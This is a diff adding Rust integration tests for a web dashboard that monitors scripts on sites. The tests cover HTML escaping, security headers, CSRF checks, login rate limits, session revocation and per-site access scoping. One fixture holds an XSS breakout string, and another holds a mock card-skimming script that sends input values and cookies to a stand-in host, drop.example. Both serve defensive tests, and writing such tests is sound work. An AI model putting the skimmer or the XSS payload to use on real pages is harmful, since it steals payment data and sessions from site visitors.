@@ -1,0 +1,447 @@
+//! The dashboard, over the router.
+
+#![allow(clippy::unwrap_used, reason = "what is not as expected fails the test")]
+
+mod door;
+
+use axum::body::Body;
+use axum::http::{Request, StatusCode, header};
+use door::{Browser, Door, form, now, see};
+use monitor::Observation;
+use service::{FeedState, Peer, Scope};
+use tower::ServiceExt as _;
+
+/// Markup that breaks out of elements, of attributes in both quotes, of text areas and of scripts.
+const HOSTILE: &str = "</textarea></script></title><b id=pwned onclick=x>'onfocus='x\"onfocus=\"x";
+
+fn is_escaped(html: &str) -> bool {
+    !["<b id=pwned", "'onfocus='x", "\"onfocus=\"x", "</textarea></script>"]
+        .iter()
+        .any(|raw| html.contains(raw))
+}
+
+/// What a crawler that follows every link of the site's pages would see.
+async fn crawl(browser: &Browser<'_>, start: &str) -> Vec<(String, String)> {
+    let (mut pages, mut waiting) = (Vec::<(String, String)>::new(), vec![start.to_owned()]);
+    while let Some(path) = waiting.pop() {
+        if pages.iter().any(|(known, _)| *known == path) || pages.len() > 200 {
+            continue;
+        }
+        let answer = browser.get(&path).await;
+        assert_eq!(answer.status, StatusCode::OK, "{path}: {}", answer.text);
+        let here = path.split('?').next().unwrap().to_owned();
+        let links = answer.text.split("href=\"").skip(1).filter_map(|rest| rest.split('"').next());
+        for link in links.filter(|link| !link.starts_with('#')) {
+            let link = link.replace("&#38;", "&").replace("&amp;", "&");
+            assert!(link.starts_with('/') || link.starts_with('?'), "{path} leads to {link}");
+            waiting.push(if link.starts_with('?') { format!("{here}{link}") } else { link });
+        }
+        pages.push((path, answer.text));
+    }
+    pages
+}
+
+/// A site whose every text is hostile.
+async fn hostile_site(door: &Door) {
+    door.site("shop", |monitor| {
+        let url = format!("https://cdn.example/{HOSTILE}.js");
+        let page = format!("https://shop.example/{HOSTILE}");
+        let theft = format!(
+            "// {HOSTILE}\nvar cards = document.querySelectorAll('input');\nsetInterval(function () {{ \
+             new Image().src = 'https://drop.example/?{}' + btoa(cards[0].value + document.cookie); }}, 900);\n",
+            "<b id=pwned onclick=x>"
+        );
+        see(monitor, &url, &page, Some(&theft));
+        monitor.observe(&Observation::script(url.as_str()).on_page(page.as_str()).with_source(format!("{theft}\nmore({HOSTILE:?})")), now()).unwrap();
+        monitor.observe(&Observation::connection("wss://chat.example/").on_page(page.as_str()), now()).unwrap();
+    })
+    .await;
+    let mut feed = FeedState::new(HOSTILE);
+    feed.problem = Some(HOSTILE.to_owned());
+    feed.fetched_at = Some(now());
+    door.service.feeds().replace(vec![feed]);
+    let token = door.service.tokens().add(HOSTILE, &Scope::ALL, None).unwrap().1;
+    let browser = door.login(&token).await;
+    let csrf = browser.csrf().await;
+    let hash = door.get("/api/v1/sites/shop/resources/1").await.json()["hash"].as_str().unwrap().to_owned();
+    for (path, fields) in [
+        ("justify", vec![("justification", HOSTILE), ("approve", "true"), ("hash", &hash)]),
+        ("mute", vec![("reason", HOSTILE), ("days", "7")]),
+    ] {
+        let fields: Vec<_> = fields.into_iter().chain([("csrf", csrf.as_str())]).collect();
+        let answer = browser.post(&format!("/sites/shop/resources/1/{path}"), &fields).await;
+        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.text);
+    }
+}
+
+#[tokio::test]
+async fn hostile_text_runs_nowhere() {
+    let door = Door::open();
+    hostile_site(&door).await;
+    let browser = door.login(&door.token).await;
+    let mut pages = crawl(&browser, "/").await;
+    let has = |part: &str| pages.iter().any(|(path, _)| path.contains(part));
+    for part in [
+        "/scripts",
+        "/connections",
+        "/resources/1",
+        "/code/",
+        "/diff/",
+        "/alerts",
+        "/policies",
+        "/changes",
+        "/tokens",
+        "/settings",
+        "/feeds",
+        "/static/",
+    ] {
+        assert!(
+            has(part),
+            "no page {part} among {:?}",
+            pages.iter().map(|(path, _)| path).collect::<Vec<_>>()
+        );
+    }
+    let resource = pages.iter().find(|(path, _)| path == "/sites/shop/resources/1").unwrap();
+    for shown in ["<mark>", "id=pwned", "approved", "Muted", "what changed", "Evidence in the code"] {
+        assert!(resource.1.contains(shown), "{shown}: {}", resource.1);
+    }
+    let hostile = form(&[("url", HOSTILE), ("host", HOSTILE), ("page", HOSTILE), ("from", "2026-01-01")]);
+    pages.push(("filter".into(), browser.get(&format!("/sites/shop/scripts?{hostile}")).await.text));
+    let csrf = browser.csrf().await;
+    let scan = browser.post("/scan", &[("csrf", &csrf), ("text", HOSTILE), ("url", HOSTILE)]).await;
+    assert_eq!(scan.status, StatusCode::OK, "{}", scan.text);
+    pages.push(("scan".into(), scan.text));
+    let next = form(&[("next", HOSTILE)]);
+    let login = door.send(Request::get(format!("/login?{next}")).body(Body::empty()).unwrap()).await;
+    pages.push(("login".into(), login.text));
+    let wrong = browser.post("/tokens", &[("csrf", &csrf), ("name", "n"), ("scope", HOSTILE)]).await;
+    assert_eq!(wrong.status, StatusCode::BAD_REQUEST);
+    pages.push(("refused".into(), wrong.text));
+    for (path, html) in &pages {
+        if path.starts_with("/static/") {
+            continue;
+        }
+        assert!(is_escaped(html), "{path}: {html}");
+        // Nothing stands in a page that the policy would have to allow.
+        for inline in ["<style", " style=", "javascript:", "<script>"] {
+            assert!(!html.contains(inline), "{path} has {inline}");
+        }
+    }
+    assert!(
+        pages.iter().any(|(_, html)| html.contains("&#60;b id=pwned") || html.contains("&lt;b id=pwned"))
+    );
+}
+
+#[tokio::test]
+async fn every_page_has_its_policy_and_its_files() {
+    let door = Door::open();
+    door.site("shop", |monitor| see(monitor, "https://cdn.example/a.js", "https://shop.example/", None))
+        .await;
+    let browser = door.login(&door.token).await;
+    for path in ["/", "/login", "/sites/shop/scripts", "/sites/absent/scripts", "/tokens"] {
+        let answer = browser.get(path).await;
+        let policy = answer.header("content-security-policy");
+        assert!(
+            policy.starts_with("default-src 'none'; style-src 'self'; script-src 'self'"),
+            "{path}: {policy}"
+        );
+        assert!(!policy.contains("unsafe") && policy.contains("frame-ancestors 'none'"));
+        for (name, value) in [
+            ("x-content-type-options", "nosniff"),
+            ("referrer-policy", "no-referrer"),
+            ("cache-control", "no-store"),
+            ("x-frame-options", "DENY"),
+        ] {
+            assert_eq!(answer.header(name), value, "{path}");
+        }
+    }
+    let html = browser.get("/").await.text;
+    for (marker, kind) in [("stylesheet\" href=\"", "text/css"), ("<script src=\"", "text/javascript")] {
+        let path = html.split(marker).nth(1).unwrap().split('"').next().unwrap();
+        let file = browser.get(path).await;
+        assert!(file.header("content-type").starts_with(kind), "{path}");
+        assert!(file.header("cache-control").contains("immutable") && !file.text.is_empty());
+    }
+}
+
+#[tokio::test]
+async fn a_form_from_elsewhere_changes_nothing() {
+    let door = Door::open();
+    door.site("shop", |monitor| see(monitor, "https://cdn.example/a.js", "https://shop.example/", None))
+        .await;
+    let id = door.service.tokens().add("victim", &[Scope::Read], None).unwrap().0;
+    let browser = door.login(&door.token).await;
+    let csrf = browser.csrf().await;
+    let mute = ("/sites/shop/resources/1/mute".to_owned(), vec![("reason", "r"), ("days", "7")]);
+    let answer = browser.post(&mute.0, &[("reason", "r"), ("days", "7"), ("csrf", &csrf)]).await;
+    assert_eq!(answer.status, StatusCode::SEE_OTHER);
+    let mute_id =
+        door.get("/api/v1/sites/shop/mutes").await.json()["mutes"][0]["id"].as_str().unwrap().to_owned();
+    let before = (
+        door.get("/api/v1/sites/shop/audit").await.text,
+        door.get("/api/v1/audit").await.text,
+        door.get("/api/v1/tokens").await.text,
+    );
+    let other = door.login(&door.token).await.csrf().await;
+    assert_ne!(other, csrf);
+    for (path, fields) in [
+        mute,
+        ("/sites/shop/resources/1/justify".to_owned(), vec![("justification", "j"), ("approve", "true")]),
+        (format!("/sites/shop/mutes/{mute_id}/end"), vec![]),
+        ("/tokens".to_owned(), vec![("name", "n"), ("scope", "read")]),
+        (format!("/tokens/{id}/revoke"), vec![]),
+        ("/scan".to_owned(), vec![("text", "chat()")]),
+        ("/logout".to_owned(), vec![]),
+    ] {
+        let with = |csrf: Option<&str>| {
+            let csrf = csrf.map(str::to_owned);
+            fields
+                .iter()
+                .map(|(name, value)| (*name, (*value).to_owned()))
+                .chain(csrf.map(|csrf| ("csrf", csrf)))
+                .collect::<Vec<_>>()
+        };
+        let borrowed = |fields: &[(&'static str, String)]| {
+            fields.iter().map(|(name, value)| (*name, value.clone())).collect::<Vec<_>>()
+        };
+        for token in [None, Some(""), Some("x"), Some(other.as_str())] {
+            let fields = borrowed(&with(token));
+            let fields: Vec<(&str, &str)> =
+                fields.iter().map(|(name, value)| (*name, value.as_str())).collect();
+            let answer = browser.post(&path, &fields).await;
+            assert_eq!(answer.status, StatusCode::FORBIDDEN, "{path} with {token:?}");
+        }
+        let right = borrowed(&with(Some(&csrf)));
+        let right: Vec<(&str, &str)> = right.iter().map(|(name, value)| (*name, value.as_str())).collect();
+        for headers in [
+            [("sec-fetch-site", "cross-site")],
+            [("sec-fetch-site", "same-site")],
+            [("content-type", "text/plain")],
+        ] {
+            // A second content type would be joined to the first, which is the one that is read.
+            if headers[0].0 == "content-type" {
+                let request = Request::post(&path)
+                    .header(header::COOKIE, &browser.cookie)
+                    .header("content-type", "text/plain");
+                let answer = door.send(request.body(Body::from(form(&right))).unwrap()).await;
+                assert_eq!(answer.status, StatusCode::FORBIDDEN, "{path} as text");
+                continue;
+            }
+            let answer = browser.post_with(&path, &right, &headers).await;
+            assert_eq!(answer.status, StatusCode::FORBIDDEN, "{path} with {headers:?}");
+        }
+        // Without a session it leads to the login.
+        let stranger = Request::post(&path).header("content-type", "application/x-www-form-urlencoded");
+        let answer = door.send(stranger.body(Body::from(form(&right))).unwrap()).await;
+        assert_eq!((answer.status, answer.header("location")), (StatusCode::SEE_OTHER, "/login"), "{path}");
+    }
+    let after = (
+        door.get("/api/v1/sites/shop/audit").await.text,
+        door.get("/api/v1/audit").await.text,
+        door.get("/api/v1/tokens").await.text,
+    );
+    assert_eq!(before, after);
+    assert_eq!(browser.get("/").await.status, StatusCode::OK); // still logged in
+
+    // The same forms work with what belongs to them.
+    let made = browser
+        .post("/tokens", &[("csrf", &csrf), ("name", "n"), ("scope", "read"), ("sites", "shop, blog")])
+        .await;
+    assert!(made.status == StatusCode::OK && made.text.contains("pwd_"), "{}", made.text);
+    let ended = browser.post(&format!("/sites/shop/mutes/{mute_id}/end"), &[("csrf", &csrf)]).await;
+    assert_eq!(ended.header("location"), "/sites/shop/alerts?done=unmuted");
+    let revoked = browser.post(&format!("/tokens/{id}/revoke"), &[("csrf", &csrf)]).await;
+    assert_eq!(revoked.header("location"), "/tokens?done=revoked");
+    let audit = door.get("/api/v1/audit").await.json();
+    assert_eq!(audit["entries"].as_array().unwrap().len(), 2);
+}
+
+#[tokio::test]
+async fn logins_are_limited_and_sessions_end() {
+    let door = Door::open();
+    let attempt = async |token: &str, from: &str, csrf: Option<&str>| {
+        let page = door.send(Request::get("/login").body(Body::empty()).unwrap()).await;
+        assert!(
+            page.header("set-cookie").contains("; HttpOnly; SameSite=Strict"),
+            "{}",
+            page.header("set-cookie")
+        );
+        let (cookie, own) = (page.cookies(), page.csrf());
+        let request = Request::post("/login")
+            .header(header::COOKIE, cookie)
+            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+            .extension(Peer(from.parse().unwrap()))
+            .body(Body::from(form(&[("csrf", csrf.unwrap_or(&own)), ("token", token), ("next", "/feeds")])));
+        door.send(request.unwrap()).await
+    };
+    assert_eq!(attempt(&door.token, "192.0.2.1:1", Some("x")).await.status, StatusCode::FORBIDDEN);
+    let page = door.send(Request::get("/login").body(Body::empty()).unwrap()).await;
+    let bare = Request::post("/login").header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
+    let bare = bare.body(Body::from(form(&[("csrf", &page.csrf()), ("token", &door.token)]))).unwrap();
+    assert_eq!(door.send(bare).await.status, StatusCode::FORBIDDEN, "without the cookie");
+    for _ in 0..10 {
+        let answer = attempt("pwd_0123456789abcdef_x", "192.0.2.1:2", None).await;
+        assert_eq!((answer.status, answer.cookies().contains("pagewarden=")), (StatusCode::FORBIDDEN, false));
+    }
+    let limited = attempt(&door.token, "192.0.2.1:3", None).await;
+    assert_eq!(limited.status, StatusCode::TOO_MANY_REQUESTS);
+    assert!(
+        limited.header("retry-after").parse::<u64>().unwrap() > 0
+            && !limited.cookies().contains("pagewarden=")
+    );
+    let elsewhere = attempt(&door.token, "192.0.2.2:1", None).await;
+    assert_eq!((elsewhere.status, elsewhere.header("location")), (StatusCode::SEE_OTHER, "/feeds"));
+    let ingest = door.token(&[Scope::Ingest], &[]);
+    assert_eq!(attempt(&ingest, "192.0.2.3:1", None).await.status, StatusCode::FORBIDDEN);
+
+    let token = door.token(&[Scope::Read], &[]);
+    let browser = door.login(&token).await;
+    assert_eq!(browser.get("/").await.status, StatusCode::OK);
+    let csrf = browser.csrf().await;
+    let out = browser.post("/logout", &[("csrf", &csrf)]).await;
+    assert!(out.header("set-cookie").contains("Max-Age=0"));
+    let gone = browser.get("/feeds?x=1").await;
+    assert_eq!(
+        (gone.status, gone.header("location")),
+        (StatusCode::SEE_OTHER, "/login?next=%2Ffeeds%3Fx%3D1")
+    );
+
+    // A revoked token takes its sessions along.
+    let (id, token) = door.service.tokens().add("t", &[Scope::Read], None).unwrap();
+    let browser = door.login(&token).await;
+    door.service.tokens().remove(&id).unwrap();
+    assert_eq!(browser.get("/").await.status, StatusCode::SEE_OTHER);
+    for stranger in
+        ["/", "/sites/shop/scripts", "/tokens", "/changes", "/scan", "/sites/shop/resources/1/code/00"]
+    {
+        let answer = door.send(Request::get(stranger).body(Body::empty()).unwrap()).await;
+        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{stranger}");
+    }
+    let live = door.send(Request::get("/sites/shop/live").body(Body::empty()).unwrap()).await;
+    assert_eq!(live.status, StatusCode::UNAUTHORIZED);
+}
+
+#[tokio::test]
+async fn over_https_cookies_are_secure() {
+    let door = Door::with(|config| config.public_url = Some("https://watch.example".to_owned()));
+    let browser = door.login(&door.token).await;
+    assert!(browser.cookie.starts_with("__Host-pagewarden="), "{}", browser.cookie);
+    let page = door.send(Request::get("/login").body(Body::empty()).unwrap()).await;
+    assert!(page.header("set-cookie").ends_with("; Path=/; HttpOnly; SameSite=Strict; Secure"));
+    assert!(page.header("strict-transport-security").starts_with("max-age="));
+}
+
+#[tokio::test]
+async fn a_session_of_one_site_reads_nothing_of_another() {
+    let door = Door::open();
+    for site in ["shop", "other"] {
+        door.site(site, |monitor| {
+            see(monitor, "https://secret.example/a.js", "https://shop.example/", Some("chat()"))
+        })
+        .await;
+    }
+    let token = door.token(&Scope::ALL, &["other"]);
+    let browser = door.login(&token).await;
+    let hash = door.get("/api/v1/sites/shop/resources/1").await.json()["hash"].as_str().unwrap().to_owned();
+    let overview = browser.get("/").await.text;
+    assert!(overview.contains("/sites/other/") && !overview.contains("shop"), "{overview}");
+    for page in [
+        "scripts",
+        "connections",
+        "resources/1",
+        "alerts",
+        "policies",
+        "changes",
+        "live",
+        &format!("resources/1/code/{hash}"),
+        &format!("resources/1/diff/{hash}/{hash}"),
+    ] {
+        let answer = browser.get(&format!("/sites/shop/{page}")).await;
+        let absent = browser.get(&format!("/sites/absent/{page}")).await;
+        assert_eq!((answer.status, &answer.text), (StatusCode::NOT_FOUND, &absent.text), "{page}");
+        assert!(!answer.text.contains("secret.example"));
+        if page != "live" {
+            assert_eq!(browser.get(&format!("/sites/other/{page}")).await.status, StatusCode::OK, "{page}");
+        }
+    }
+    let csrf = browser.csrf().await;
+    for (path, status) in [
+        ("/sites/shop/resources/1/justify", StatusCode::NOT_FOUND),
+        ("/sites/shop/resources/1/mute", StatusCode::NOT_FOUND),
+        ("/tokens", StatusCode::NOT_FOUND),
+    ] {
+        let answer = browser
+            .post(
+                path,
+                &[
+                    ("csrf", &csrf),
+                    ("justification", "j"),
+                    ("reason", "r"),
+                    ("days", "7"),
+                    ("name", "n"),
+                    ("scope", "read"),
+                ],
+            )
+            .await;
+        assert_eq!(answer.status, status, "{path}");
+    }
+    for page in ["/tokens", "/changes"] {
+        assert_eq!(browser.get(page).await.status, StatusCode::NOT_FOUND, "{page}");
+    }
+    // A token that only reads changes nothing, and is shown no buttons for it.
+    let reader = door.token(&[Scope::Read], &["other"]);
+    let browser = door.login(&reader).await;
+    let csrf = browser.csrf().await;
+    let answer =
+        browser.post("/sites/other/resources/1/justify", &[("csrf", &csrf), ("justification", "j")]).await;
+    assert_eq!(answer.status, StatusCode::FORBIDDEN);
+    assert!(!browser.get("/sites/other/resources/1").await.text.contains("/justify"));
+    assert!(door.get("/api/v1/sites/other/audit").await.text.contains("\"entries\":[]"));
+}
+
+#[tokio::test]
+async fn lists_filter_and_page_and_forms_keep_what_was_typed() {
+    let door = Door::open();
+    door.site("shop", |monitor| {
+        for number in 0..70 {
+            monitor
+                .observe(
+                    &Observation::script(format!("https://cdn{}.example/{number}.js", number % 2)),
+                    now(),
+                )
+                .unwrap();
+        }
+    })
+    .await;
+    let browser = door.login(&door.token).await;
+    let first = browser.get("/sites/shop/scripts?host=cdn*.example&status=").await;
+    assert_eq!(first.text.matches("<tr><td><span class=\"badge").count(), 50, "{}", first.text);
+    assert!(first.text.contains("value=\"cdn*.example\""));
+    let next = first.text.split("rel=\"next\" href=\"").nth(1).unwrap().split('"').next().unwrap();
+    let next = next.replace("&#38;", "&").replace("&amp;", "&");
+    let second = browser.get(&format!("/sites/shop/scripts{next}")).await;
+    assert_eq!(second.text.matches("<tr><td><span class=\"badge").count(), 20);
+    assert!(!second.text.contains("rel=\"next\""));
+    let wrong = browser.get("/sites/shop/scripts?status=x").await;
+    assert_eq!(wrong.status, StatusCode::BAD_REQUEST);
+    assert!(wrong.text.contains("expected active, inactive or infrequent"), "{}", wrong.text);
+    let site = browser.get("/sites/shop").await;
+    assert_eq!(site.header("location"), "/sites/shop/scripts");
+}
+
+#[tokio::test]
+async fn a_live_stream_comes_to_a_session() {
+    let door = Door::open();
+    door.site("shop", |monitor| see(monitor, "https://cdn.example/a.js", "https://shop.example/", None))
+        .await;
+    let browser = door.login(&door.token).await;
+    let page = browser.get("/sites/shop/alerts").await.text;
+    assert!(
+        page.contains("data-live=\"/sites/shop/live\"") && page.contains("A script was not there before"),
+        "{page}"
+    );
+    let request =
+        Request::get("/sites/shop/live").header(header::COOKIE, &browser.cookie).header("last-event-id", "0");
+    let answer = door.router.clone().oneshot(request.body(Body::empty()).unwrap()).await.unwrap();
+    assert_eq!(answer.headers()["content-type"], "text/event-stream; charset=utf-8");
+}
